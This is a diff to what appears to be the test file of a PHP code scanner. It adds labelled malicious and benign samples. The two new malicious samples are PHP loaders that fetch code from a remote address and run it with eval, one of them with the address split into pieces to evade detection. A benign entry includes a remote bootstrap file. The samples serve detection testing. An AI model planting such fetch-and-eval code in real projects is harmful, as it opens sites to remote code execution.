@@ -268,6 +268,21 @@ MALICIOUS = [
         CODE,
     ),
     (
+        "fetch helper given an address without an extension, its answer run as a script",
+        "<?php function pull($u) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $u);"
+        " curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }"
+        " $t = pull('https://203.0.113.5/k3x9/raw'); echo eval('?>' . (($t)));",
+        CODE,
+    ),
+    (
+        "fetch class given an address built in pieces through its constructor",
+        "<?php class Src { private $u; function __construct($u) { $this->u = $u; }"
+        " function body() { if (ini_get('allow_url_fopen')) { return file_get_contents($this->u); }"
+        " return false; } } $p = 'https'; $h = '203.0.113.5/kit'; $s = new Src($p . '://' . $h . '/t.txt');"
+        " $c = $s->body(); if ($c !== false) { eval('?>' . $c); }",
+        CODE,
+    ),
+    (
         "superglobals by name",
         "<?php foreach (['_GET', '_POST'] as $s) { foreach ($$s as $k => $v) { $k($v); } }",
         DYN,
@@ -766,6 +781,12 @@ def test_flow_is_found(name: str, code: str, expected: str) -> None:
 
 
 BENIGN = [
+    (
+        "a local template compiled and run as a script, a settings object keeping an API address",
+        "<?php class Api { private $e; function __construct($e) { $this->e = $e; } function e() { return $this->e; } }"
+        " $a = new Api('https://api.example.com/v2'); $src = file_get_contents(__DIR__ . '/t/footer.tpl');"
+        " ob_start(); eval('?>' . $src); echo htmlspecialchars($a->e()) . ob_get_clean();",
+    ),
     (
         "a command-line tool including a remote bootstrap",
         "<?php if (PHP_SAPI !== 'cli') { exit(1); } include 'https://203.0.113.5/bootstrap.php';",
